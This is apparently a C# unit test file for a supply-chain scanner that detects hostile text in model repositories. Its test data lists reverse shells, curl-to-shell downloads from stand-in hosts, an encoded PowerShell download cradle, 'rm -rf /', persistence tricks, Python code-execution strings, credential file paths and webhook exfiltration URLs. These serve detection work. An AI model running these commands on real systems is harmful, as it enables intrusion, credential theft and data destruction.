using System.IO.Compression;
using System.Text;
using SupplyChainAnalyzers.Scanner.Judging;

namespace SupplyChainAnalyzers.Scanner.Tests.Judging;

public class TextJudgeTests
{
    [Theory]
    [InlineData("curl http://10.0.0.1/x.sh | bash")]
    [InlineData("curl -s evil.example/x|sh")]
    [InlineData("wget -q https://evil.example/a -O /tmp/a && chmod +x /tmp/a")]
    [InlineData("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")]
    [InlineData("/bin/sh -c 'id'")]
    [InlineData("nc -e /bin/sh 10.0.0.1 4444")]
    [InlineData("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f")]
    [InlineData("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA")]
    [InlineData("powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://x/y')\"")]
    [InlineData("rm -rf /")]
    [InlineData("chmod 777 /tmp/x")]
    [InlineData("(crontab -l; echo '* * * * * x') | crontab -")]
    [InlineData("echo x >> ~/.bashrc")]
    [InlineData("python3 -c 'import os'")]
    [InlineData("__import__('os').system('id')")]
    [InlineData("import os; os.system('id')")]
    [InlineData("exec(base64.b64decode('aW1wb3J0IG9z'))")]
    [InlineData("eval('1')")]
    [InlineData("import socket,subprocess,os;s=socket.socket()")]
    [InlineData("lambda x: __import__('subprocess').run(['id'])")]
    [InlineData("open('/tmp/pwned', 'w').write('x')")]
    [InlineData("().__class__.__base__.__subclasses__()")]
    [InlineData("/etc/passwd")]
    [InlineData("../../../../etc/shadow")]
    [InlineData("/home/user/.ssh/id_rsa")]
    [InlineData("https://webhook.site/0af3")]
    [InlineData("https://discord.com/api/webhooks/1/2")]
    [InlineData("http://169.254.169.254/latest/meta-data/")]
    public void Commands_code_and_secrets_are_sure(string text) => Assert.True(TextJudge.Find(text)?.IsSure, text);

    [Theory]
    [InlineData("touch /tmp/pwned")]
    [InlineData("cat /var/log/x")]
    [InlineData("whoami")]
    [InlineData("ls -la")]
    [InlineData("calc.exe")]
    [InlineData("10.0.0.1:4444")]
    [InlineData("http://10.0.0.1/x")]
    [InlineData("https://evil.example/install.sh")]
    [InlineData("import os")]
    public void Lesser_signs_need_a_look(string text) => Assert.False(Assert.IsType<TextSign>(TextJudge.Find(text)).IsSure);

    [Theory]
    [InlineData("SELECT id, name FROM users WHERE id = 1; DELETE FROM x WHERE y")]
    [InlineData("bert-base-uncased")]
    [InlineData("model.layers.0.self_attn.q_proj.weight")]
    [InlineData("https://huggingface.co/bert-base-uncased/resolve/main/config.json")]
    [InlineData("https://example.org/paper.pdf")]
    [InlineData("e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855")]
    [InlineData("the model is in evaluation mode: model.eval()")]
    [InlineData("id")]
    [InlineData("float32")]
    [InlineData("import numpy as np")]
    [InlineData("Open the file and find all heads")]
    [InlineData("{{ bos_token }}{% for message in messages %}{{ message['content'] }}{% endfor %}")]
    [InlineData("2024-01-01T10:00:00")]
    [InlineData("0.0.1")]
    [InlineData("C:/Users/me/models/model.bin")]
    [InlineData("<div align=\"center\"><img src=\"https://x.org/a.png\"/></div>")]
    public void Ordinary_constants_say_nothing(string text) => Assert.Null(TextJudge.Find(text));

    [Fact]
    public void A_readme_may_quote_commands_and_code()
    {
        var readme = "# Model card\n\n" + string.Concat(Enumerable.Repeat("This model was trained on a large corpus of text, and it is released under an open licence. You can use it as follows.\n", 8))
            + "```bash\ncurl -fsSL https://example.org/install.sh | sh\npip install torch\n```\n```python\nimport os\nimport subprocess\nos.system('ls')\n```\n";
        Assert.Null(TextJudge.Find(readme));
    }

    [Fact]
    public void A_reverse_shell_is_told_even_in_a_readme() => Assert.True(TextJudge.Find(string.Concat(Enumerable.Repeat("This is a long text, with words. And it goes on and on.\n", 30)) + "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")?.IsSure);

    [Fact]
    public void Encodings_are_undone_three_deep()
    {
        var text = "import os; os.system('id')";
        for (var depth = 1; depth <= 3; depth++)
        {
            text = Convert.ToBase64String(Encoding.UTF8.GetBytes(text));
            Assert.True(TextJudge.Find(text)?.IsSure, $"{depth}");
        }

        Assert.Null(TextJudge.Find(Convert.ToBase64String(Encoding.UTF8.GetBytes(text))));
    }

    [Fact]
    public void Hexadecimal_digits_are_undone() => Assert.True(TextJudge.Find("x = '" + Convert.ToHexString("import os; os.system('id')"u8) + "'")?.IsSure);

    [Fact]
    public void Compressed_code_is_found()
    {
        using var packed = new MemoryStream();
        using (var stream = new ZLibStream(packed, CompressionLevel.Optimal, leaveOpen: true))
            stream.Write("import os; os.system('curl evil.example | sh')"u8);

        Assert.True(TextJudge.Find(packed.ToArray())?.IsSure);
        Assert.True(TextJudge.Find(Convert.ToBase64String(packed.ToArray()))?.IsSure);
    }

    [Fact]
    public void A_pickle_in_base64_is_found() => Assert.Contains("pickle", TextJudge.Find(Convert.ToBase64String([0x80, 2, .. "cos\nsystem\n(S'id'\ntR."u8]))?.What, StringComparison.Ordinal);

    [Fact]
    public void Native_programs_are_found()
    {
        byte[] elf = [0x7f, .. "ELF"u8, 2, 1, 1, .. new byte[60]];
        Assert.Contains("Linux", TextJudge.Find(elf)?.What, StringComparison.Ordinal);
        Assert.Contains("Linux", TextJudge.Find(Convert.ToBase64String(elf))?.What, StringComparison.Ordinal);
    }

    [Fact]
    public void Text_in_utf16_is_read() => Assert.True(TextJudge.Find(Encoding.Unicode.GetBytes("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"))?.IsSure);

    [Fact]
    public void Random_bytes_and_texts_have_an_answer_and_none_that_is_sure()
    {
        var random = new Random(1);
        for (var round = 0; round < 2000; round++)
        {
            var bytes = new byte[random.Next(400)];
            random.NextBytes(bytes);
            Assert.NotEqual(true, TextJudge.Find(bytes)?.IsSure);
            Assert.NotEqual(true, TextJudge.Find(Convert.ToBase64String(bytes))?.IsSure);
            Assert.NotEqual(true, TextJudge.Find(Convert.ToHexString(bytes))?.IsSure);
        }
    }
}
